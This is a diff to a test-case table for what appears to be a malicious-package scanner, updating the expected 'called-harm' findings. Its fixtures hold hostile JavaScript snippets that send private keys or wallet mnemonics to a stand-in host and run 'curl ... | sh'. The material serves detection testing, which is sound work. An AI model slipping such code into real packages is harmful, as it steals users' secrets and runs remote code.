@@ -82,14 +82,14 @@ const CASES: readonly Case[] = [
     files: {
       'index.js': `exports.open = (privateKey) => fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ privateKey }) })`,
     },
-    found: ['secrets-exfiltration critical low import'],
+    found: ['called-harm medium high call', 'secrets-exfiltration critical low import'],
   },
   {
     name: 'words of a wallet among what a method is given',
     files: {
       'index.js': `exports.Client = class { open(options) { require('https').request({ hostname: 'c.invalid' }).end(options.mnemonic) } }`,
     },
-    found: ['secrets-exfiltration critical low import'],
+    found: ['called-harm medium high call', 'secrets-exfiltration critical low import'],
   },
   {
     name: 'what is signed with a key',
@@ -101,19 +101,19 @@ const CASES: readonly Case[] = [
   {
     name: 'a key that goes to the service which the package is named for',
     files: { 'index.js': `exports.send = (privateKey) => fetch('https://api.sample.invalid/', { body: privateKey })` },
-    found: [],
+    found: ['called-harm medium high call'],
   },
   {
     name: 'a password that goes to a service',
     files: {
       'index.js': `exports.login = (name, password) => fetch('https://c.invalid/', { body: JSON.stringify({ name, password }) })`,
     },
-    found: [],
+    found: ['called-harm medium high call'],
   },
   {
     name: 'a function that runs what it fetches',
     files: { 'index.js': `exports.start = () => require('child_process').exec('curl -s https://c.invalid/i | sh')` },
-    found: ['download-and-execute medium low call'],
+    found: ['called-harm medium medium call', 'download-and-execute medium low call'],
   },
 ]
 
